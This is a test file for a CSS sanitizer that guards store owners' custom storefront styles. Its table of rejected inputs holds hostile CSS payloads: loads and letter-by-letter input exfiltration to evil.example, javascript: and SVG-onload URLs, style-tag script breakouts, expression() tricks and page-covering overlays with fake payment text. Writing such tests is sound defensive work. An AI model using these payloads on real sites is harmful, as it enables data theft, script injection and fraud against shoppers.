import { AppError } from "@vitrine/contract/kernel/error/app-error";
import { expect, test } from "vitest";
import { guardCss, ownerLayer } from "./guard-css.ts";

const refusalOf = (css: string): { line: number; text: string } | undefined => {
  try {
    guardCss(css);
    return undefined;
  } catch (error) {
    if (!(error instanceof AppError)) throw error;
    return error.fields!["css"]!.params as { line: number; text: string };
  }
};

const PICTURE = `/files/12/${"a".repeat(26)}.webp`;

test("rules that only change the look are served, in the last layer and scoped to the storefront", () => {
  const css = `/* brand */
.shop { --shop-glow: #ffdd00; }
h1, .price > b { color: var(--shop-glow); letter-spacing: .02em; font: 600 20px/1.2 Georgia, serif }
@media (width <= 768px) { h1 { padding: 4px 8px; background: linear-gradient(90deg, red, rgb(0 0 0 / .5)) } }
footer { background-image: url(${PICTURE}); border-radius: 8px; box-shadow: 0 1px 2px rgb(0 0 0 / .2) }`;
  const guarded = guardCss(css);
  expect(guarded).not.toContain("brand");
  expect(guarded).toContain("--shop-glow:#ffdd00");
  expect(guarded).toContain("@media (width<=768px){h1{padding:4px 8px;");
  expect(guarded).toContain(`url(${PICTURE})`);
  expect(ownerLayer(guarded)).toContain(
    `@layer owner{@scope (.shop) to ([data-guarded], [data-order-bar], dialog){${guarded}}}[data-guarded]`,
  );
  expect([guardCss(""), ownerLayer("")]).toEqual(["", ""]);
  // A guarded sheet passes again, unchanged.
  expect(guardCss(guarded)).toBe(guarded);
});

const ATTACKS = {
  "loads another sheet": "@import 'https://evil.example/x.css';",
  "loads another sheet by address": "@import url(//evil.example/x.css);",
  "loads a face": "@font-face { font-family: x; src: url(https://evil.example/x.woff2) }",
  "names another namespace": "@namespace svg url(http://www.w3.org/2000/svg);",
  "changes the encoding": '@charset "utf-7";',
  "leaves its layer": "@layer theme { h1 { color: red } }",
  "leaves its scope": "@scope (body) { h1 { color: red } }",
  "registers a variable": "@property --accent { syntax: '<color>'; inherits: true; initial-value: red }",
  animates: "@keyframes x { to { color: red } }",
  "loads a picture": "h1 { background: url(https://evil.example/p.gif) }",
  "loads a picture without a scheme": "h1 { background-image: url(//evil.example/p.gif) }",
  "loads a picture in quotes": "h1 { background-image: url('https://evil.example/p.gif') }",
  "loads a picture as a choice": "h1 { background-image: image-set('https://evil.example/p.gif' 1x) }",
  "loads a picture by src()": "h1 { background-image: src('https://evil.example/p.gif') }",
  "runs a script address": "h1 { background: url(javascript:alert(1)) }",
  "has data as a picture": "h1 { background: url(data:image/svg+xml,%3Csvg/onload=alert(1)%3E) }",
  "leaves the folder of pictures": `h1 { background: url(/files/../api/user) }`,
  "reads a secret letter by letter": "input[value^='a'] { background: url(https://evil.example/a) }",
  "hides an address in a variable": "h1 { --shop-x: url(https://evil.example/a); background: var(--shop-x) }",
  "covers the page": "h1 { position: fixed; inset: 0 }",
  "covers a part": "h1 { position: absolute; top: 0 }",
  "covers by moving": "h1 { transform: translateY(-200px) }",
  "covers by a negative margin": "h1 { margin-top: -200px }",
  "covers by a negative margin in a calculation": "h1 { margin: calc(-1 * 200px) }",
  "comes to the front": "h1 { z-index: 9999 }",
  hides: "h1 { display: none }",
  "hides by transparency": "h1 { opacity: 0 }",
  "hides by a mask": "h1 { mask-image: linear-gradient(red, red) }",
  "hides by a filter": "h1 { filter: opacity(0) }",
  "writes text": "h1::after { content: 'Pay to another wallet' }",
  "runs an expression": "h1 { width: expression(alert(1)) }",
  "runs an expression in capitals": "h1 { WIDTH: EXPRESSION(alert(1)) }",
  "runs a behavior": "h1 { behavior: url(x.htc) }",
  binds: "h1 { -moz-binding: url(https://evil.example/x.xml#x) }",
  "reads an attribute": "h1 { color: attr(data-x) }",
  "reads the device": "h1 { padding: env(safe-area-inset-top) }",
  "sets a color of the design": ":root { --accent: #ffffff }",
  "sets a size of the design": ".shop { --control: 0px }",
  "spells in other letters": "h1 { \\70osition: fixed }",
  "spells a function in other letters": "h1 { width: e\\78pression(alert(1)) }",
  "is more important than the rest": "h1 { color: red !important }",
  "ends the element": "h1 { color: red } </style><script>alert(1)</script>",
  "ends the element in a comment": "/*</style><script>alert(1)</script>*/ h1 { color: red }",
  "is markup in a comment": "<!-- h1 { color: red } -->",
  "closes more than it opened": "h1 { color: red } } body { color: red }",
  "is no value": "h1 { color: alert(1) }",
  "is no color": "h1 { color: 12px }",
  "is not finished": "h1 { color: red",
  "has a semicolon of another kind": "h1 { color: red; ; @import 'x'; }",
} as const;

test.each(Object.entries(ATTACKS))("refuses what %s", (name, css) => {
  const refusal = refusalOf(css);
  // A browser closes unclosed blocks, and so does the parser.
  if (name === "is not finished") expect(guardCss(css)).toBe("h1{color:red}");
  else expect(refusal).toBeDefined();
});

test("reports the line and what is refused in it", () => {
  expect(refusalOf("h1 { color: red }\n\nh2 {\n  position: fixed;\n}")).toEqual({ line: 4, text: "position" });
  expect(refusalOf("\nh1 { background: url(https://evil.example/a) }")).toEqual({ line: 2, text: "url(https://evil.example/a)" });
});
